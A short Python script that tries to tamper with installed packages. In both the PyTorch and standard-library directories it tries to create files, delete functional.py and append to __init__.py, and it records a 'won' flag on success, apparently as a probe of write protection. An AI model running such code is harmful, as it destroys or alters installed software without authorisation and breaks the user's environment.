"""Changes an installed package, and its compiled form."""
import os, torch
won = False
for folder in (os.path.dirname(torch.__file__), os.path.dirname(os.__file__)):
    for act in (lambda: open(folder + "/residue.py", "w"), lambda: os.makedirs(folder + "/residue"),
                lambda: os.unlink(folder + "/functional.py"), lambda: open(folder + "/__init__.py", "a")):
        try:
            act()
            won = True
        except OSError:
            pass
